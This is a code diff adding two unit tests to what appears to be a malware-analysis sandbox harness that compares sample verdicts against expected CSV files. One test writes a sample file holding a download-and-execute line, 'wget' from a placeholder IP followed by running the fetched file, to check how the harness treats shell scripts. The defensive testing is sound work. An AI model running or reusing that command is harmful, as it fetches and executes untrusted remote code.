@@ -132,6 +132,44 @@ class ExperimentTest extends ExperimentFixture {
         .allMatch(result -> result.threatScore().isEmpty());
   }
 
+  @Test
+  void whatAnEmulatorIsExpectedToRefuseIsNoError() throws IOException {
+    sample("e-odd", "differs oddly");
+    String said = "INCONCLUSIVE: the emulator refuses what Linux runs: oddly";
+    String row = "%s,INCONCLUSIVE,the emulator refuses what Linux runs: %s\n";
+    Path others =
+        Files.writeString(
+            folder.resolve("others.csv"),
+            "sample,verdict,cause\n" + row.formatted("e-odd", "otherwise"));
+    Path expected =
+        Files.writeString(
+            folder.resolve("expected.csv"),
+            "sample,verdict,cause\n"
+                + row.formatted("e-odd", "oddly")
+                + row.formatted("a-exits", "oddly")); // which it does not, where it runs
+
+    assertThat(failures(run(it -> it.expecting(others))).values())
+        .containsExactly("e-odd in fake: " + said);
+    assertThat(failures(run(it -> it.expecting(expected)))).isEmpty();
+    assertThat(results()).filteredOn(Result::tolerated).extracting(Result::sample).hasSize(1);
+  }
+
+  @Test
+  void aTextWithoutAnInterpreterIsRunWhenAShellIsToRunIt() throws IOException {
+    Files.writeString(corpus.resolve("e-text"), "wget http://192.0.2.1/x; ./x\n");
+    Result byKernel = only(it -> it.option(RunOptions.SAMPLE, "e-text"));
+    assertThat(byKernel.verdict().cause()).hasToString("Optional[not an executable format: text]");
+    Result byShell =
+        only(
+            it ->
+                it.option(RunOptions.SAMPLE, "e-text")
+                    .option(RunOptions.SCRIPTS_BY_SHELL, "shell"));
+    assertThat(byShell.verdict().cause()).hasToString("Optional[exit status: 6]");
+    assertThat(byShell.facts().fileType()).isEqualTo("text");
+    assertThat(onlyFailure(run(it -> it.option(RunOptions.SCRIPTS_BY_SHELL, "ash"))))
+        .contains("-Dscripts=ash", "neither kernel nor shell");
+  }
+
   private Path evidence(Result result) throws IOException {
     return latest().evidence(result).folder();
   }
